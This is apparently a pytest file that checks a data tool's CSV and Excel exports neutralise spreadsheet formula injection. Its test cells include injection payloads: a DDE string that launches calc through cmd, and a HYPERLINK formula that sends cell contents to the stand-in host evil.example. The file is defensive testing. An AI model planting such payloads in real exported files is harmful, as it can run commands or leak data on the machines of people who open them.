"""Cells that a spreadsheet would run as a formula come out defused from every listing and export, and exact where raw cells are asked for."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from boundwork.explore.listings import separated
from conftest import Run
from small_study import write_csv, write_small

LEADS = ("=", "+", "-", "@", "\t")
TAILS = ("1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "SUM(A1:A9)", "2", "DDE(\"x\")", "\"quoted\"", "é🙂")
CELLS = [lead + tail for lead in LEADS for tail in TAILS]


def starts_a_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("comma", [",", "\t"])
def test_no_listing_starts_a_formula_and_raw_is_exact(comma: str, record_property: Callable[[str, object], None]) -> None:
    record_property("tried", 2 * len(CELLS))
    rows: list[dict[str, str | int | float | bool | None]] = [{"a": cell, "b": -1} for cell in CELLS]
    safe, raw = (list(csv.reader(io.StringIO("".join(separated(rows, ["a", "b"], comma, raw=exact))), delimiter=comma))[1:] for exact in (False, True))
    assert [r[0] for r in raw] == CELLS
    assert not [r[0] for r in safe if starts_a_formula(r[0])]
    assert [r[0].removeprefix("'") for r in safe] == CELLS
    assert {r[1] for r in safe} == {"-1"}  # a number is a number


@pytest.fixture
def study(scratch: Path) -> Path:
    """A study whose gists and labels of councils are such cells."""
    folder = write_small(scratch / "small")
    write_csv(folder / "councils.csv", "id,label,type",
              [(c, cell.strip() or "x", "unitary") for c, cell in zip(("alder", "birch", "cedar", "dogwood"), CELLS[::9], strict=False)])
    with open(folder / "extracts.csv", newline="", encoding="utf-8") as file:
        head, *rows = list(csv.reader(file))
    write_csv(folder / "extracts.csv", ",".join([*head, "gist"]), [(*row, CELLS[i]) for i, row in enumerate(rows)])
    return folder


def test_an_exported_workbook_holds_no_formula(study: Path, run: Run, record_property: Callable[[str, object], None]) -> None:
    for raw in ((), ("--raw",)):
        done = run("export", study, "--to", "xlsx", "-o", study.parent / "out.xlsx", *raw)
        assert done.returncode == 0, done.stderr
        book = load_workbook(study.parent / "out.xlsx")
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
        record_property("tried", len(cells))
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert CELLS[0] in [c.value for c in cells]
        marked = {str(c.value) for c in cells if c.quotePrefix}  # stays text when somebody edits the cell
        assert raw or marked >= {str(c.value) for c in cells if starts_a_formula(str(c.value))}


def test_exported_tables_start_no_formula(study: Path, run: Run, record_property: Callable[[str, object], None]) -> None:
    assert run("export", study, "--to", "csv", "-o", study.parent / "out.zip").returncode == 0
    with zipfile.ZipFile(study.parent / "out.zip") as archive:
        cells = [cell for name in archive.namelist() if name.endswith(".csv")
                 for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline="")) for cell in row]
    record_property("tried", len(cells))
    assert f"'{CELLS[0]}" in cells
    assert not [c for c in cells if starts_a_formula(c)]
